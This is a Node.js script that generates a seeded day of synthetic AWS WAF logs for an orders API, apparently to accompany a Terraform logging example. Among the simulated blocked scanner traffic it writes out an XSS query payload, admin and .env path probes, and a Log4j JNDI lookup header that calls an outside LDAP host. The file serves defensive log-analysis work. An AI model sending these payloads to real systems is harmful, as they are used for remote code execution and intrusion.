#!/usr/bin/env node
/**
 * A day of synthetic AWS WAF logs for examples/logs/main.tf, deterministic (seeded), in the record shape
 * of AWS's "Log examples for web ACL traffic". What it holds, by construction:
 *   - 40 API clients, 50 allowed requests each (2,000), with browser/SDK agents and a bearer token;
 *   - 15 of them upload attachments over 8 KB: 150 x POST /prod/orders/<n>/attachments, blocked by
 *     common / SizeRestrictions_BODY;
 *   - a health checker without a User-Agent: 96 x GET /prod/health (every 15 min), blocked by
 *     common / NoUserAgent_HEADER;
 *   - a scanner (192.0.2.66): 30 x GET /prod/admin/<5 paths> blocked by block-admin, 20 x GET /prod/orders with
 *     XSS in the query (common / CrossSiteScripting_QUERYARGUMENTS), 10 x POST /prod/orders/<n>/attachments
 *     with a Log4j lookup in a header (known-bad-inputs / Log4JRCE_HEADER).
 * Usage: node examples/logs/generate-logs.js [OUT.jsonl.gz]   (default: examples/logs/waf-logs/2026-11-23.jsonl.gz)
 * Also a module: generateRecords() returns the records, EXPECTED the counts above.
 */
"use strict";
const { mkdirSync, writeFileSync } = require("node:fs");
const { dirname, join } = require("node:path");
const { gzipSync } = require("node:zlib");

const DAY = Date.UTC(2026, 10, 23);
const WEB_ACL = "arn:aws:wafv2:eu-west-1:111122223333:regional/webacl/orders-api/0f3c7d52-6a1e-4a57-9a5f-5d1c2b7e8a90";
const SOURCE = "111122223333:k7x2q9m4pa:prod";
const CRS = "AWS#AWSManagedRulesCommonRuleSet";
const KBI = "AWS#AWSManagedRulesKnownBadInputsRuleSet";

const EXPECTED = {
  allowed: 2000,
  uploads: { requests: 150, clients: 15, method: "POST", path: "/prod/orders/{id}/attachments" },
  health: { requests: 96, clients: 1, method: "GET", path: "/prod/health" },
  scanner: { ip: "192.0.2.66", admin: 30, xss: 20, log4j: 10 },
};

/** mulberry32: a small seeded PRNG, so the logs are the same on every machine. */
function prng(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function generateRecords(seed = 20261123) {
  const random = prng(seed);
  const pick = (list) => list[Math.floor(random() * list.length)];
  const at = () => DAY + Math.floor(random() * 86_400_000);
  let counter = 0;
  const requestId = () => `req-${(++counter).toString(16).padStart(8, "0")}`;
  const agents = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "aws-sdk-js/3.700.0 ua/2.1 os/linux lang/js md/nodejs#20.18.0",
    "okhttp/4.12.0",
  ];
  const records = [];

  const record = ({ ts, ip, method, uri, args = "", headers, action, rule, type, groups, labels, bodySize }) => {
    const r = {
      timestamp: ts,
      formatVersion: 1,
      webaclId: WEB_ACL,
      terminatingRuleId: rule,
      terminatingRuleType: type,
      action,
      terminatingRuleMatchDetails: [],
      httpSourceName: "APIGW",
      httpSourceId: SOURCE,
      ruleGroupList: groups,
      rateBasedRuleList: [],
      nonTerminatingMatchingRules: [],
      requestHeadersInserted: null,
      responseCodeSent: null,
      httpRequest: {
        clientIp: ip,
        country: "DE",
        headers: [{ name: "Host", value: "k7x2q9m4pa.execute-api.eu-west-1.amazonaws.com" }, ...headers],
        uri,
        args,
        httpVersion: "HTTP/1.1",
        httpMethod: method,
        requestId: requestId(),
      },
    };
    if (labels) r.labels = labels.map((name) => ({ name }));
    if (bodySize !== undefined) {
      r.requestBodySize = bodySize;
      r.requestBodySizeInspectedByWAF = Math.min(bodySize, 16384);
    }
    records.push(r);
  };
  const group = (id, terminating) => ({ ruleGroupId: id, terminatingRule: terminating ? { ruleId: terminating, action: "BLOCK", ruleMatchDetails: null } : null, nonTerminatingMatchingRules: [], excludedRules: null, customerConfig: null });
  const passedBoth = () => [group(CRS, null), group(KBI, null)];

  // 40 API clients: allowed traffic on the API's routes.
  const clients = Array.from({ length: 40 }, (_, i) => ({ ip: `203.0.113.${i + 10}`, agent: pick(agents), token: `Bearer eyJ${(i * 7919).toString(36)}` }));
  for (const c of clients) {
    for (let i = 0; i < 50; i++) {
      const id = 1000 + Math.floor(random() * 9000);
      const [method, uri, bodySize] = pick([
        ["GET", "/prod/orders", undefined],
        ["GET", `/prod/orders/${id}`, undefined],
        ["POST", "/prod/orders", 512 + Math.floor(random() * 2048)],
        ["POST", `/prod/orders/${id}/attachments`, 1024 + Math.floor(random() * 6000)],
      ]);
      const headers = [{ name: "User-Agent", value: c.agent }, { name: "Authorization", value: c.token }];
      if (bodySize !== undefined) headers.push({ name: "Content-Type", value: "application/json" });
      record({ ts: at(), ip: c.ip, method, uri, headers, action: "ALLOW", rule: "Default_Action", type: "REGULAR", groups: passedBoth(), bodySize });
    }
  }

  // 15 of them upload attachments over 8 KB: the Core rule set's SizeRestrictions_BODY blocks them.
  for (const c of clients.slice(0, EXPECTED.uploads.clients)) {
    for (let i = 0; i < EXPECTED.uploads.requests / EXPECTED.uploads.clients; i++) {
      const id = 1000 + Math.floor(random() * 9000);
      record({
        ts: at(), ip: c.ip, method: "POST", uri: `/prod/orders/${id}/attachments`,
        headers: [{ name: "User-Agent", value: c.agent }, { name: "Authorization", value: c.token }, { name: "Content-Type", value: "application/pdf" }],
        action: "BLOCK", rule: "common", type: "MANAGED_RULE_GROUP", groups: [group(CRS, "SizeRestrictions_BODY")],
        labels: ["awswaf:managed:aws:core-rule-set:SizeRestrictions_Body"], bodySize: 20_000 + Math.floor(random() * 200_000),
      });
    }
  }

  // The load balancer's health checker sends no User-Agent: NoUserAgent_HEADER blocks it, every 15 minutes.
  for (let i = 0; i < EXPECTED.health.requests; i++) {
    record({
      ts: DAY + i * 900_000, ip: "198.51.100.7", method: "GET", uri: "/prod/health", headers: [],
      action: "BLOCK", rule: "common", type: "MANAGED_RULE_GROUP", groups: [group(CRS, "NoUserAgent_HEADER")],
      labels: ["awswaf:managed:aws:core-rule-set:NoUserAgent_Header"],
    });
  }

  // A scanner: admin paths, XSS probes, a Log4j lookup.
  const scanner = { ip: EXPECTED.scanner.ip, headers: [{ name: "User-Agent", value: "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)" }] };
  const adminPaths = ["/prod/admin", "/prod/admin/login", "/prod/admin/config", "/prod/admin/users", "/prod/admin/.env"];
  for (let i = 0; i < EXPECTED.scanner.admin; i++) {
    record({ ts: at(), ip: scanner.ip, method: "GET", uri: adminPaths[i % adminPaths.length], headers: scanner.headers, action: "BLOCK", rule: "block-admin", type: "REGULAR", groups: passedBoth() });
  }
  for (let i = 0; i < EXPECTED.scanner.xss; i++) {
    record({
      ts: at(), ip: scanner.ip, method: "GET", uri: "/prod/orders", args: `q=%3Cscript%3Ealert(${i})%3C%2Fscript%3E`, headers: scanner.headers,
      action: "BLOCK", rule: "common", type: "MANAGED_RULE_GROUP", groups: [group(CRS, "CrossSiteScripting_QUERYARGUMENTS")],
      labels: ["awswaf:managed:aws:core-rule-set:CrossSiteScripting_QueryArguments"],
    });
  }
  for (let i = 0; i < EXPECTED.scanner.log4j; i++) {
    record({
      ts: at(), ip: scanner.ip, method: "POST", uri: `/prod/orders/${2000 + i}/attachments`,
      headers: [...scanner.headers, { name: "X-Api-Version", value: "${jndi:ldap://198.51.100.99/a}" }],
      action: "BLOCK", rule: "known-bad-inputs", type: "MANAGED_RULE_GROUP", groups: [group(CRS, null), group(KBI, "Log4JRCE_HEADER")],
      labels: ["awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header"], bodySize: 300,
    });
  }
  return records.sort((a, b) => a.timestamp - b.timestamp || a.httpRequest.requestId.localeCompare(b.httpRequest.requestId));
}

function toJsonLines(records) {
  return records.map((r) => JSON.stringify(r)).join("\n") + "\n";
}

module.exports = { generateRecords, toJsonLines, EXPECTED, WEB_ACL };

if (require.main === module) {
  const out = process.argv[2] ?? join(__dirname, "waf-logs", "2026-11-23.jsonl.gz");
  mkdirSync(dirname(out), { recursive: true });
  const text = toJsonLines(generateRecords());
  writeFileSync(out, out.endsWith(".gz") ? gzipSync(text, { level: 9 }) : text);
  process.stderr.write(`wrote ${out}\n`);
}
